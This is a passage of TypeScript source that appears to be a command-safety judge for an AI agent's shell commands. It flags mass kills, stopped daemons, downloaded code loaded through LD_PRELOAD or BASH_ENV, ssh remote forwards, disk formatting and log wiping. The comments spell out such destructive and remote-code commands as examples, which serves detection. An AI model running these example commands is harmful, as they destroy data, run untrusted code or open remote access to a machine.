      if (args.some((a) => /^(?:--set|--systohc|--hctosys|--adjust|--systz|-[a-zA-Z]*[wsa])$/.test(a.text)))
        add(ctx, "kernel_change");
      return;
  }
}

// ---------------------------------------------------------------------------------------------

const DELETERS = new Set(["rm", "unlink", "rmdir", "srm", "trash", "trash-put", "gio"]);

/**
 * Processes of the system's own services (init, ssh, the container runtime, kubelet, cron, logging, the network,
 * database servers holding data): killing them by name stops the service, as `systemctl stop` would. Servers an
 * agent commonly starts for itself (web servers, caches) are not listed.
 */
const SYSTEM_DAEMON =
  /^(?:\S*\/)?(?:systemd(?:-\w+)?|init|sshd|dockerd|containerd(?:-shim\S*)?|crio|kubelet|kube-(?:apiserver|proxy|scheduler|controller-manager)|etcd|postgres|postmaster|mysqld|mariadbd|mongod|cron|crond|atd|rsyslogd|syslog-ng|journald|dbus-daemon|NetworkManager|wpa_supplicant|dhclient|chronyd|ntpd|auditd|polkitd|udevd|snapd|agetty|getty|sssd)(?=$|[\s:])/;

/** A system daemon's name as a word inside other text (an awk or grep pattern). */
const DAEMON_WORD = new RegExp(
  String.raw`(?<![\w-])` +
    SYSTEM_DAEMON.source.replace(/^\^\(\?:\\S\*\\\/\)\?/, "").replace(/\(\?=\$\|\[\\s:\]\)$/, "") +
    String.raw`(?![\w-])`,
);

/** HUP, USR1, USR2, CONT, WINCH: the signals daemons take as "reload" or "reopen logs", not "stop". */
const RELOAD_SIGNAL =
  /^-(?:s\s*)?(?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH|1|10|12|18|28)$|^--signal[=\s](?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH)$/i;

/** Signal 9 / KILL spelled as kill spells it. */
const FORCE_SIGNAL = /^-(?:9|KILL|SIGKILL|s\s*(?:9|KILL|SIGKILL))$|^--signal=(?:9|KILL|SIGKILL)$/i;

/** Filters between a process listing and kill: what survives them is not every process. */
function narrows(p: Producer): boolean {
  if (/^(?:grep|egrep|fgrep|rg|ag|pgrep|pidof|lsof|fuser|jq)$/.test(p.name)) return true;
  if (/^(?:g|m|n)?awk$/.test(p.name)) {
    const program = p.args.find((a) => !a.text.startsWith("-"))?.text ?? "";
    // `NR>1 {print $2}` only drops the header line: every process is still listed.
    const pattern = program.slice(0, Math.max(0, program.indexOf("{"))).trim();
    const body = program.slice(program.indexOf("{") + 1);
    return (pattern !== "" && !/^(?:F?NR\s*(?:>=?|!=)\s*\d+)$/.test(pattern)) || /\bif\b|[~!=]=|~|\bnext\b/.test(body);
  }
  if (p.name === "sed") return p.args.some((a) => /\/.*\/\s*[pd]/.test(a.text));
  return false;
}

/** The command at the start of a pipeline feeding this one, and whether a stage on the way narrows its output. */
function pipelineOrigin(p: Producer | null | undefined): { origin: Producer | null; narrowed: boolean } {
  let narrowed = false;
  let cur = p ?? null;
  for (let guard = 0; cur && guard < 16; guard++) {
    if (narrows(cur)) narrowed = true;
    if (!cur.before) break;
    cur = cur.before;
  }
  return { origin: cur, narrowed };
}

/**
 * kill: of every process a listing gives (`ps -eo pid= | xargs kill -9`, `kill $(ps -e -o pid=)`), of a name's
 * processes by force (`kill -9 $(pgrep -f x)` is `pkill -9 -f x`), of a system service's processes.
 */
function judgeKill(ctx: JudgeContext): void {
  const args = ctx.args;
  if (args.some((a) => /^-(?:0|s\s*0|-signal=0|l|L)$|^--(?:list|table)$/.test(a.text))) return;
  const force =
    args.some((a) => FORCE_SIGNAL.test(a.text)) ||
    args.some(
      (a, k) =>
        (a.text === "-s" || a.text === "-n" || a.text === "--signal") &&
        /^(?:9|KILL|SIGKILL)$/i.test(args[k + 1]?.text ?? ""),
    );
  const listers: { name: string; rest: string; narrowed: boolean }[] = [];
  if (ctx.viaXargs && ctx.producer) {
    const { origin, narrowed } = pipelineOrigin(ctx.producer);
    if (origin) listers.push({ name: origin.name, rest: origin.args.map((a) => a.text).join(" "), narrowed });
  }
  // (An unquoted `$p` bound to `$(pgrep -u x)` is split into words: the substitution is read across them.)
  const joinedSubst =
    args.length > 1 && args.some((a) => /^\$\(/.test(a.text) && !/\)$/.test(a.text))
      ? [
          {
            text: args
              .map((a) => a.text)
              .join(" ")
              .replace(/^.*?(?=\$\()/, ""),
          },
        ]
      : [];
  for (const a of [...args, ...joinedSubst]) {
    const m = /^\$\(\s*(?:sudo\s+)?(\S+)([^|)]*)(\|[^)]*)?\)$/.exec(a.text.trim());
    if (m)
      listers.push({
        name: m[1]!.split("/").pop()!,
        rest: m[2]!.trim(),
        narrowed: m[3] !== undefined && /\b(?:grep|egrep|rg|awk\s+'?\/|pgrep|pidof)\b/.test(m[3]),
      });
  }
  // A pid read from a pid file of the system's run directory (`kill -9 $(cat /run/nginx.pid)`) is a system daemon's:
  // stopping it stops the service. A pid file in the working directory is the task's own server.
  const reload =
    args.some((a) => RELOAD_SIGNAL.test(a.text)) ||
    args.some(
      (a, k) =>
        (a.text === "-s" || a.text === "--signal") &&
        /^(?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH)$/i.test(args[k + 1]?.text ?? ""),
    );
  for (const a of args) {
    const m = /^\$\(\s*(?:(?:sudo\s+)?(?:cat|head\s+-\S+|tail\s+-\S+)\s+|<\s*)(\S+)\s*\)$/.exec(a.text.trim());
    if (m && !reload && /^\/(?:var\/)?run\//.test(m[1]!.replace(/^['"]|['"]$/g, ""))) return add(ctx, "stop_service");
  }
  // The pids a filter picked out by a system daemon's name (`ps … | awk '$2=="kubelet"{print $1}' | xargs kill`,
  // `kill $(ps aux | grep '[p]ostgres' | awk …)`): the daemon is stopped.
  if (!reload) {
    const filters: string[] = [];
    for (let p = ctx.viaXargs ? ctx.producer : null, guard = 0; p && guard < 8; p = p.before, guard++)
      filters.push(...p.args.map((a) => a.text));
    for (const a of args) if (/^\$\(.*\|/s.test(a.text)) filters.push(a.text);
    if (filters.some((f) => DAEMON_WORD.test(f.replace(/\[(\w)\]/g, "$1")))) return add(ctx, "stop_service");
  }
  // SIGSTOP freezes what it hits as surely as SIGKILL ends it (`pgrep -u mysql | xargs kill -STOP`).
  const freeze =
    force ||
    args.some((a) => /^-(?:s\s*)?(?:SIG)?(?:STOP|19)$|^--signal=(?:SIG)?STOP$/i.test(a.text)) ||
    args.some((a, k) => /^(?:-s|--signal)$/.test(a.text) && /^(?:SIG)?STOP$/i.test(args[k + 1]?.text ?? ""));
  for (const l of listers) {
    if (l.name === "ps" && !l.narrowed && !/(?:^|\s)-(?:[a-zA-Z]*[pCuUgGt]|-pid|-ppid|-user|-group)\b/.test(l.rest))
      return add(ctx, "kill_all_processes");
    // A listing filtered by a name (`ps -eo pid,comm | awk '/java/ {print $1}' | xargs kill -9`) is `pkill -9 java`.
    if (l.name === "ps" && l.narrowed && freeze) return add(ctx, "pkill_force");
    if (l.name === "pgrep" || l.name === "pidof") {
      const names = l.rest
        .split(/\s+/)
        .filter((w) => w && !w.startsWith("-"))
        .map((w) => w.replace(/^['"]|['"]$/g, ""));
      if (names.some((n) => SYSTEM_DAEMON.test(n)) && !args.some((a) => RELOAD_SIGNAL.test(a.text)))
        return add(ctx, "stop_service");
      if (freeze) return add(ctx, "pkill_force");
    }
  }
}

/** Judges one simple command; findings go to ctx.out. */
export function judgeCommand(ctx: JudgeContext): void {
  const { name, args } = ctx;
  const findingsBefore = ctx.out.length;

  // Redirections: writes and truncations of their targets.
  for (const r of ctx.redirects) {
    if (r.body !== undefined) continue;
    const writes =
      r.op === ">" ||
      r.op === ">>" ||
      r.op === "&>" ||
      r.op === "&>>" ||
      r.op === "<>" ||
      (r.op === ">&" && !/^(?:\d+|-)$/.test(r.target));
    if (!writes) continue;
    const win = windowsWriteClass(r.target);
    if (win) {
      add(ctx, win);
      continue;
    }
    judgeOverwrite(ctx, r.target, r.op.endsWith(">>"));
    if (!r.fd || r.fd === "1") noteScript(ctx, r.target, r.op.endsWith(">>"), writtenText(ctx));
  }
  if (!name) return;
  if (onlyChecksOrHelps(ctx, name)) return;
  notefetched(ctx);
  // A library or module path the loader or interpreter loads code from, set to a downloaded file
  // (`curl … -o /tmp/l.so && LD_PRELOAD=/tmp/l.so ls`, `export LD_PRELOAD=…`): running downloaded code.
  const loaded = [
    ...(ctx.env ?? []),
    ...(name === "export" || name === "declare" || name === "typeset"
      ? args
          .flatMap((a) => /^([A-Za-z_]\w*)=(.*)$/s.exec(a.text)?.slice(1, 3) ?? [])
          .reduce<{ name: string; value: string }[]>(
            (acc, v, k, xs) => (k % 2 === 0 ? [...acc, { name: v, value: xs[k + 1]! }] : acc),
            [],
          )
      : []),
  ];
  for (const e of loaded) {
    if (
      !/^(?:LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH|PYTHONPATH|PYTHONSTARTUP|PERL5LIB|PERL5OPT|RUBYLIB|RUBYOPT|NODE_OPTIONS|NODE_PATH|BASH_ENV|ENV)$/.test(
        e.name,
      )
    )
      continue;
    if (e.value.split(/[:\s]+/).some((part) => part !== "" && isFetched(ctx, part.replace(/^--require=|^-r/, ""))))
      add(ctx, "remote_code_exec");
    // `BASH_ENV=<(curl …) bash -c true`: the start-up file the shell sources is a download.
    else if (
      /^(?:BASH_ENV|ENV|PYTHONSTARTUP|NODE_OPTIONS|PERL5OPT|RUBYOPT)$/.test(e.name) &&
      FETCHED_TEXT.test(e.value)
    )
      add(ctx, "remote_code_exec");
  }
  // Options a tool reads from the environment are its options (`TF_CLI_ARGS_apply='-auto-approve -destroy' terraform apply`).
  if (/^(?:terraform|tofu)$/.test(name) && !ctx.tfArgs) {
    const verb = args.find((a) => !a.text.startsWith("-"))?.text;
    const extra = (ctx.env ?? [])
      .filter((e) => e.name === "TF_CLI_ARGS" || (verb !== undefined && e.name === `TF_CLI_ARGS_${verb}`))
      .flatMap((e) => e.value.split(/\s+/).filter(Boolean));
    if (extra.length) {
      const k = args.findIndex((a) => a.text === verb);
      return judgeCommand({
        ...ctx,
        tfArgs: true,
        args: [
          ...args.slice(0, k + 1),
          ...extra.map((x) => ({ text: x, literal: true }) as JudgedArg),
          ...args.slice(k + 1),
        ],
      });
    }
  }
  const hereString = ctx.redirects.find((r) => r.op === "<<<" && r.body !== undefined);
  if (name === "tee" && (ctx.producer || hereString)) {
    const text = ctx.producer ? producedLiteral(ctx.producer) : hereString!.literal ? hereString!.body! + "\n" : null;
    for (const op of operands(args)) noteScript(ctx, op.text, hasFlag(args, "a", ["--append"]), text);
  }
  // A file written earlier in this command line and now run: its text is what runs.
  const ran = ctx.path !== undefined && ctx.path.includes("/") ? writtenScript(ctx, ctx.path) : undefined;
  if (ran !== undefined) {
    if (ran === null) add(ctx, "shell_input");
    else ctx.analyseShell(ran);
  } else if (ctx.path !== undefined && ctx.path.includes("/") && isFetched(ctx, ctx.path)) add(ctx, "shell_input"); // `./tool/install.sh` of a clone
  if (DB_RESET.test(`${name} ${args.map((a) => a.text).join(" ")}`)) add(ctx, "sql_drop");
  judgeCliVerbs(ctx, name);
  if (/^mkfs\.|^mkfs_/.test(name)) return judgeFormat(ctx);

  if (name.startsWith("$") || /^\$\(|`/.test(name)) {
    add(ctx, "computed_command");
    return;
  }

  if (ctx.viaXargs && DELETERS.has(name)) {
    // The operands come from stdin: safe only when the producer lists paths inside the working directory.
    if (!producerListsInside(ctx.producer, ctx.cwd, ctx.root)) add(ctx, "xargs_rm");
  }

  // Secrets sent off the machine (credential files, tokens, the environment posted, piped to a socket or copied to a host): exfil.ts.
  for (const key of credentialEffects(name, args, ctx.producer, ctx.redirects, ctx.viaXargs)) add(ctx, key);
  // Endless streams held in memory, load generators aimed at other hosts, floods, thousands of replicas: exhaustion.ts.
  for (const key of exhaustionEffects(name, args, ctx.redirects, ctx.producer)) add(ctx, key);
  // Operations no rule of their own judged (unreviewed applies, drains, bulk deletes through xargs, remote restores, init
  // scripts, other systems' package managers, system installs, …): ops.ts.
  for (const key of opsEffects({
    name,
    args,
    producer: ctx.producer,
    viaXargs: ctx.viaXargs,
    privileged: ctx.privileged,
    remote: ctx.remote,
    env: ctx.env,
    created: ctx.created,
    inside: (p) => isInsideLike(whereIn(ctx, p)),
  }))
    add(ctx, key);
  // Windows and macOS system commands (cmd built-ins, Windows tools, PowerShell cmdlets, launchd, diskutil, …): windows.ts.
  const win = windowsEffects(
    name,
    args.map((a) => a.text),
  );
  for (const e of win) {
    if ("key" in e) add(ctx, e.key);
    else {
      const cls = windowsDeleteClass(e.delete, e.recursive);
      if (cls) add(ctx, cls);
      else judgeDelete(ctx, e.delete.replace(/\\/g, "/"), e.recursive);
    }
  }
  if (win.length && /^(?:rd|rmdir|del|erase)$/.test(name)) return;

  // Package-runner deleters (`npx rimraf DIR`, `npx del-cli 'x/**'`): recursive deletes of their operands.
  if (/^(?:rimraf|del-cli|rmrf|rm-rf|premove|trash-cli|delete-cli|remove-cli)$/.test(name)) {
    for (const op of operands(args)) judgeDelete(ctx, op.text, true);
    return;
  }
  if (DELETERS.has(name)) {
    if (name === "gio" && sub(args)[0] !== "remove" && sub(args)[0] !== "trash") return;
    const recursive = name === "rm" ? hasFlag(args, "rR", ["--recursive"]) : false;
    for (const op of operands(args).filter((o) => o.text !== "remove" && o.text !== "trash"))
      judgeDelete(ctx, op.text, recursive);
    return;
  }

  judgeEmbeddedCommands(ctx, name);
  judgeByEffect(ctx, name);
  judgeWiderEffects(ctx, name);
  judgeElsewhere(ctx, name);
  judgeMoreEffects(ctx, name, findingsBefore);
  // make, just, task, ninja, cmake -P … given a file of recipes that a download writes (`make -f <(curl …)`): downloaded commands run.
  if (
    /^(?:make|gmake|bmake|remake|just|ninja|cmake|task|mage|rake|scons|meson|xmake)$/.test(name) &&
    args.some(
      (a, k) =>
        (/^(?:-f|--file|--makefile|--justfile|-P|--taskfile|-t)$/.test(args[k - 1]?.text ?? "") ||
          /^--(?:file|makefile|justfile)=/.test(a.text)) &&
        (FETCHED_TEXT.test(a.text) || isFetched(ctx, a.text.replace(/^--\w+=/, ""))),
    )
  )
    add(ctx, "shell_input");

  switch (name) {
    // mkdir of a scratch directory: the directory is the command line's own from then on (see madeHere).
    case "mkdir":
      for (const op of operands(args, "m", ["--mode", "--context"])) {
        // A name made unique by the shell's own process id (`/tmp/scratch-$$`, `${BASHPID}`) is the same word each time the line uses it.
        const own =
          !op.literal &&
          /^\/(?:tmp|var\/tmp)\/[^*?[$]*(?:\$(?:\$|\{\$\}|BASHPID\b|\{BASHPID\}|PPID\b|\{PPID\}|UID\b|USER\b)[^*?[$]*)+$/.test(
            op.text,
          );
        if (
          ctx.created.size < 64 &&
          (op.literal || own) &&
          whereIn(ctx, op.text) === "scratch" &&
          /^\/(?:tmp|var\/tmp)\/[^*?[]+$/.test(op.text)
        )
          ctx.created.add(`dir:${posix.normalize(op.text).replace(/\/+$/, "")}`);
      }
      return;
    case "mv":
    case "rename": {
      const ops = operands(args, "tS", ["--target-directory", "--suffix"]).map((o) => o.text);
      const t = args.findIndex((a) => a.text === "-t" || a.text === "--target-directory");
      const tEq = args.find((a) => a.text.startsWith("--target-directory="));
      const dest = t >= 0 ? args[t + 1]?.text : tEq ? tEq.text.split("=")[1] : ops.length > 1 ? ops.pop() : undefined;
      judgeMove(ctx, ops, dest);
      return;
    }
    case "cp":
    case "install":
    case "rsync":
    case "ln": {
      const ops = operands(args, name === "install" ? "gmotS" : name === "rsync" ? "ef" : "tS", [
        "--target-directory",
        "--suffix",
        "--mode",
        "--owner",
        "--group",
        "--rsh",
        "--exclude",
        "--include",
        "--filter",
      ]).map((o) => o.text);
      if (name === "install" && hasFlag(args, "d", ["--directory"])) return;
      // rsync -n / --dry-run only lists what it would transfer and delete.
      if (
        name === "rsync" &&
        (hasFlag(
          args.filter((a) => !a.text.startsWith("--")),
          "n",
        ) ||
          args.some((a) => a.text === "--dry-run"))
      )
        return;
      const t = args.findIndex((a) => a.text === "-t" || a.text === "--target-directory");
      const dest = t >= 0 ? args[t + 1]?.text : ops.length > 1 ? ops[ops.length - 1] : undefined;
      const src = ops.slice(0, -1);
      // rsync --remove-source-files deletes what it copied.
      if (name === "rsync" && args.some((a) => /^--remove-source/.test(a.text)))
        for (const s of src) if (!/^[^/]*:/.test(s)) judgeDelete(ctx, s, true);
      // --delete onto a remote host:path removes what the source lacks there: files of another machine.
      if (
        name === "rsync" &&
        dest !== undefined &&
        /^[^/]*:/.test(dest) &&
        args.some((a) => /^--del(?:ete\S*)?$/.test(a.text))
      )
        return add(ctx, "recursive_delete");
      if (dest === undefined || /^[^/]*:/.test(dest) || SCRATCH_DIR.test(dest)) return; // remote rsync destination, scratch
      if (name === "ln") {
        const w = whereIn(ctx, dest);
        if (w === "system" || w === "credential" || (hasFlag(args, "f", ["--force"]) && !isInsideLike(w)))
          judgeOverwrite(ctx, dest);
        rememberLink(ctx, args, src, dest); // after: the link replaces what was at dest
        return;
      }
      if (src.some((s) => /^\/dev\/(?:null|zero|u?random)$/.test(s)) && DATA_FILE.test(dest))
        return add(ctx, "overwrite_data_file");
      if (
        name === "rsync" &&
        args.some((a) => /^--(?:delete|remove-source)/.test(a.text)) &&
        !isInsideLike(whereIn(ctx, dest))
      )
        return add(ctx, "recursive_delete");
      judgeOverwrite(ctx, dest);
      if (src.some((s) => /^\/dev\/(?:null|zero)$/.test(s)) && whereIn(ctx, dest) !== "inside")
        add(ctx, "overwrite_outside_workdir");
      return;
    }
    case "truncate": {
      for (const op of operands(args, "sor", ["--size", "--reference"])) {
        const w = whereIn(ctx, op.text);
        noteInside(ctx, op.text);
        if (DATA_FILE.test(op.text)) add(ctx, "overwrite_data_file");
        else if (w === "system" && CRON_PATH.test(op.text)) add(ctx, "crontab_replace");
        else if (w === "system")
          add(
            ctx,
            /^\/(?:etc|boot|usr|bin|sbin|lib)/.test(op.text) ? "system_config_write" : "overwrite_outside_workdir",
          );
        else if (w === "credential") add(ctx, "credential_write");
        else if (w === "outside" || w === "home" || w === "unknown") add(ctx, "overwrite_outside_workdir");
      }
      return;
    }
    // sponge soaks up its input and then writes the file: an overwrite (or an append with -a) of its operand.
    case "sponge":
      for (const op of operands(args)) judgeOverwrite(ctx, op.text, hasFlag(args, "a"));
      return;
    // patch rewrites the file it is given (or, with -d DIR, files under DIR; -o names the output instead).
    case "patch": {
      const ops = operands(args, "pidoDBFrzVYgM", [
        "--strip",
        "--input",
        "--directory",
        "--output",
        "--ifdef",
        "--prefix",
        "--fuzz",
        "--reject-file",
        "--suffix",
        "--version-control",
        "--basename-prefix",
        "--get",
        "--merge",
      ]);
      const at = (short: string, long: string) => {
        const k = args.findIndex((a) => a.text === short || a.text === long);
        if (k >= 0) return args[k + 1]?.text;
        return args
          .find(
            (a) =>
              a.text.startsWith(long + "=") ||
              (a.text.startsWith(short) && a.text.length > 2 && !a.text.startsWith("--")),
          )
          ?.text.replace(new RegExp(`^(?:${long}=|${short})`), "");
      };
      const out = at("-o", "--output");
      const dir = at("-d", "--directory");
      if (args.some((a) => a.text === "--dry-run")) return;
      if (out !== undefined) return judgeOverwrite(ctx, out);
      if (ops[0])
        return judgeOverwrite(ctx, dir && !ops[0].text.startsWith("/") ? posix.join(dir, ops[0].text) : ops[0].text);
      if (dir !== undefined && !isInsideLike(whereIn(ctx, dir))) judgeOverwrite(ctx, posix.join(dir, "_item_"));
      return;
    }
    case "tee": {
      const append = hasFlag(args, "a", ["--append"]);
      for (const op of operands(args)) judgeOverwrite(ctx, op.text, append);
      return;
    }
    case "dd": {
      const of = args.find((a) => a.text.startsWith("of="));
      if (of) {
        const target = of.text.slice(3);
        // conv=notrunc overwrites blocks in place: harmless for an image of the working directory, not for a file
        // elsewhere (a database's data file) or a device reached through a link the line made.
        const w = whereIn(ctx, target, true);
        if (!args.some((a) => /^conv=.*notrunc/.test(a.text)) || w === "device") judgeOverwrite(ctx, target);
        else if (w === "system" || w === "outside" || w === "home" || w === "credential") judgeOverwrite(ctx, target);
      }
      return;
    }
    // Compressors replace each file with its compressed copy (the original is removed), `zip -m` moves files into the
    // archive: the files are gone from where they were (`gzip -r /var/lib/mysql`, `zip -rm out.zip /var/log/nginx`).
    case "gzip":
    case "pigz":
    case "bzip2":
    case "pbzip2":
    case "xz":
    case "lzma":
    case "lzip":
    case "lz4":
    case "zstd":
    case "compress":
    case "gunzip":
    case "unxz":
    case "bunzip2": {
      const texts = args.map((a) => a.text);
      const keeps =
        texts.some(
          (x) =>
            /^-[a-zA-Z0-9]*[ckltS]|^--(?:stdout|to-stdout|keep|list|test|help|version)$/.test(x) && !/^-S$/.test(x),
        ) ||
        ((name === "zstd" || name === "lz4") && !texts.includes("--rm"));
      if (keeps || (ctx.producer && !ctx.viaXargs)) return;
      const recursive = texts.some((x) => /^-[a-zA-Z0-9]*r|^--recursive$/.test(x));
      for (const op of operands(args, "S", ["--suffix"])) judgeDelete(ctx, op.text, recursive);
      return;
    }
    case "sed":
    case "perl":
    case "ruby":
      if (args.some((a) => /^-[a-zA-Z]*i/.test(a.text) || a.text.startsWith("--in-place"))) {
        const ops = operands(args, name === "sed" ? "ef" : "eEIMm", ["--expression", "--file"]);
        const files =
          name === "sed" && !args.some((a) => a.text === "-e" || a.text.startsWith("--expression"))
            ? ops.slice(1)
            : ops;
        for (const f of files) {
          const w = whereIn(ctx, f.text);
          if (w !== "inside" && w !== "scratch") judgeOverwrite(ctx, f.text);
        }
      }
      break;
    case "chmod":
    case "chown":
    case "chgrp":
    case "setfacl":
    case "chattr":
      judgeChmod(ctx, name);
      return;
    case "find":
      judgeFind(ctx);
      return;
    case "eval":
      judgeEval(ctx);
      return;
    case "source":
    case ".": {
      const target = args[0];
      if (!target) return;
      if (target.procSubst) {
        if (INIT_IDIOM.test(target.text.replace(/^<\(/, "$(").trim())) return; // source <(kubectl completion bash)
        if (typeof target.substOutput === "string") ctx.analyseShell(target.substOutput);
        else add(ctx, "shell_input");
        return;
      }
      // A path with a variable in it (`. "$HOME/.cargo/env"`) is a script file like any other; text computed by a command is not.
      const written = writtenScript(ctx, target.text);
      if (written !== undefined) return written === null ? add(ctx, "shell_input") : ctx.analyseShell(written);
      if (
        /\$\(|`/.test(target.text) ||
        (!target.literal && /^\$\{?\w+\}?$/.test(target.text)) ||
        target.text === "/dev/stdin" ||
        target.text === "-" ||
        isFetched(ctx, target.text)
      )
        add(ctx, "shell_input");
      return;
    }
    case "alias":
      for (const a of args) {
        const m = /^[^=]+=(.*)$/s.exec(a.text);
        if (m) ctx.analyseShell(m[1]!);
      }
      return;
    case "mkfs":
    case "mke2fs":
    case "mkswap":
    case "mkdosfs":
    case "mkntfs":
    case "mkexfatfs":
      judgeFormat(ctx);
      return;
    case "kill":
      judgeKill(ctx);
      return;
    case "pkill":
    case "killall": {
      // Every process of a user, group or session, with no name to narrow it down.
      const ops = operands(args, name === "pkill" ? "uUgGPsFtnoe" : "uoy", [
        "--euid",
        "--uid",
        "--group",
        "--pgroup",
        "--parent",
        "--session",
        "--pidfile",
        "--terminal",
        "--signal",
        "--user",
        "--older-than",
        "--younger-than",
      ]);
      if (args.some((a) => /^-(?:0|s\s*0|-signal=0)$/.test(a.text))) return; // only asks whether they exist
      if (
        !ops.length &&
        args.some((a) => /^-[a-zA-Z]*[uUgGPs]$|^--(?:euid|uid|user|group|pgroup|parent|session)/.test(a.text))
      )
        add(ctx, "kill_all_processes");
      if (ops.some((o) => SYSTEM_DAEMON.test(o.text)) && !args.some((a) => RELOAD_SIGNAL.test(a.text)))
        add(ctx, "stop_service");
      return;
    }
    case "shred":
      judgeShred(ctx);
      return;
    case "git":
      judgeGit(ctx);
      return;
    case "tar":
    case "bsdtar":
    case "gtar":
    case "unzip":
    case "7z":
    case "7za":
    case "7zz":
    case "bsdunzip":
    case "cpio":
      judgeArchive(ctx, name);
      return;
    case "sort":
    case "shuf":
    case "iconv":
    case "uniq":
    case "curl":
    case "wget":
    case "openssl":
    case "gpg":
    case "gpg2":
      judgeOutputOption(ctx, name);
      if (name === "curl" || name === "wget") judgeHttpDelete(ctx, name);
      if (name === "curl" || name === "wget") judgeHttpWrite(ctx, name);
      break;
    // A remote forward (`ssh -R 2222:localhost:22 host`, `-R 0:…`): a port on the other machine leads into this one.
    case "ssh":
    case "autossh":
      if (
        args.some((a) => /^-[A-Za-z]*R/.test(a.text) || /^-oRemoteForward[=\s]/i.test(a.text)) ||
        args.some((a, k) => a.text === "-o" && /^RemoteForward[=\s]/i.test(args[k + 1]?.text ?? ""))
      )
        add(ctx, "remote_access");
      return;
    case "http":
    case "https":
    case "xh":
    case "xhs":
      judgeHttpDelete(ctx, name);
      judgeHttpWrite(ctx, name);
      return;
    case "ansible":
      judgeAnsible(ctx);
      return;
    case "ed":
    case "ex":
    case "vi":
    case "vim":
    case "nvim":
      judgeScriptedEditor(ctx);
      return;
    case "wipefs":
    case "blkdiscard":
    case "hdparm":
      judgeEraser(ctx, name);
      return;
    case "nvme":
    case "pvcreate":
    case "vgcreate":
    case "vgextend":
    case "badblocks":
    case "sg_format":
    case "ceph-volume":
      judgeDiskInit(ctx, name);
      return;
    case "fdisk":
    case "sfdisk":
    case "cfdisk":
    case "gdisk":
    case "sgdisk":
    case "parted":
      judgePartitioner(ctx, name);
      return;
    case "at":
    case "batch": {
      if (hasFlag(args, "lcqrdV") && !hasFlag(args, "f")) return; // listing, removing, printing jobs
      const f = args.findIndex((a) => a.text === "-f");
      if (f >= 0) {
        const file = args[f + 1]?.text ?? "";
        const written = writtenScript(ctx, file);
        if (written !== undefined) return written === null ? add(ctx, "shell_input") : ctx.analyseShell(written);
        if (isFetched(ctx, file)) add(ctx, "shell_input");
        return;
      }
      judgeFedInput(ctx, "shell");
      return;
    }
    case "setenforce":
      if (/^(?:0|permissive)$/i.test(args[0]?.text ?? "")) add(ctx, "kernel_change");
      return;
    case "aa-teardown":
      add(ctx, "kernel_change");
      return;
    case "btrfs":
      if (sub(args).includes("delete") || sub(args).includes("remove")) add(ctx, "volume_destroy");
      return;
    case "pkill":
    case "killall":
      break;
    case "history":
      if (hasFlag(args, "c")) add(ctx, "log_wipe");
      return;
    case "journalctl":
      if (args.some((a) => /^--vacuum-/.test(a.text))) add(ctx, "log_wipe");
      return;
    case "pwsh":
    case "powershell":
      if (args.some((a) => /^-(?:e|ec|en|enc|encodedcommand)$/i.test(a.text))) add(ctx, "shell_input");
      return;
  }
  judgePowerShellCmdlet(ctx);

  const lang = SHELLS.has(name) ? "shell" : interpreterLanguage(name);
  if (lang) {
    // `bash <( … )`, `python3 <(curl …)`: the program is computed at run time.
    const firstOperand = args.find((a) => !a.text.startsWith("-"));
    if (firstOperand?.procSubst) {
      if (typeof firstOperand.substOutput === "string") return feedCode(ctx, lang, firstOperand.substOutput);
      return add(ctx, "shell_input");
    }
    // The script run (not the module of `python -m`, not an argument after -c/-e code).
    const codeFlag = args.findIndex((a) =>
      (lang === "python" ? /^-[A-Za-z]*[cm]/ : lang === "shell" ? /^-[A-Za-z]*c[A-Za-z]*$/ : /^-[A-Za-z]*[eEr]$/).test(
        a.text,
      ),
    );
    const before = firstOperand ? args.indexOf(firstOperand) : -1;
    if (firstOperand && (codeFlag < 0 || codeFlag > before) && isFetched(ctx, firstOperand.text))
      return add(ctx, "shell_input");
    const written = firstOperand ? writtenScript(ctx, firstOperand.text) : undefined;
    if (written !== undefined) return written === null ? add(ctx, "shell_input") : feedCode(ctx, lang, written);
    if (lang !== "shell") judgeInlineInterpreter(ctx, lang);
    if (readsProgramFromStdin(name, args, lang)) judgeFedInput(ctx, lang);
    return judgeElevated(ctx, name, findingsBefore);
  }

  judgeTeardown(ctx, name);
  judgeSystemState(ctx, name);
  // Global options before the subcommand (`helm --kube-context staging delete redis`, `aws --profile prod s3 rm …`):
  // the subcommand rules read the words after them too.
  const moved = afterGlobalOptions(args);
  if (moved) {
    const alt: JudgeContext = { ...ctx, args: moved };
    const start = ctx.out.length;
    judgeByEffect(alt, name);
    judgeWiderEffects(alt, name);
    judgeTeardown(alt, name);
    judgeSystemState(alt, name);
    judgeMoreEffects(alt, name, start);
  }
  const sql = sqlOfClient(
    name,
    args,
    ctx.redirects,
    ctx.producer ? producedLiteral(ctx.producer) : undefined,
    ctx.producer != null,
  );
  if (sql && !sqliteInWorkdir(ctx, name, sql)) for (const key of judgeSql(sql)) add(ctx, key);
  // Destructive verbs of infrastructure CLIs that no rule of the tool's own judged (cli_verbs.ts).
  if (ctx.out.length === findingsBefore) judgeCliVerbs(ctx, name, true);
  // On another host every service is someone's: restarts, reloads and starts of any unit change that machine.
  if (
    ctx.remote &&
    ctx.out.length === findingsBefore &&
    ((name === "systemctl" &&
      /^(?:restart|reload|start|enable|try-restart|reload-or-restart|daemon-reload)$/.test(sub(args)[0] ?? "")) ||
      (name === "service" && /^(?:restart|reload|start|force-reload)$/.test(sub(args)[1] ?? "")))
  )
    add(ctx, "service_change");
  judgeElevated(ctx, name, findingsBefore);
}

/** A privileged or remote program with no finding, not exempt (ELEVATED_EXEMPT): its effect is not known, so it is asked about. */
function judgeElevated(ctx: JudgeContext, name: string, findingsBefore: number): void {
  if (
    (ctx.privileged || ctx.remote) &&
    ctx.out.length === findingsBefore &&
    ELEVATED_RULE &&
    !elevatedExempt(name, ctx.args)
  )
    add(ctx, "elevated_unreadable");
}

/**
 * The words of a command with its leading options moved after the rest, each option without `=` taking the next word
 * as its value (`helm --kube-context staging delete redis` → `delete redis --kube-context staging`); null when no
 * leading option took a word. Judged besides the words as written, where the option was a flag.
 */
function afterGlobalOptions(args: JudgedArg[]): JudgedArg[] | null {
  const moved: JudgedArg[] = [];
  let k = 0;
  let took = false;
  while (k < args.length && args[k]!.text.startsWith("-") && args[k]!.text !== "--" && args[k]!.text !== "-") {
    const a = args[k++]!;
    moved.push(a);
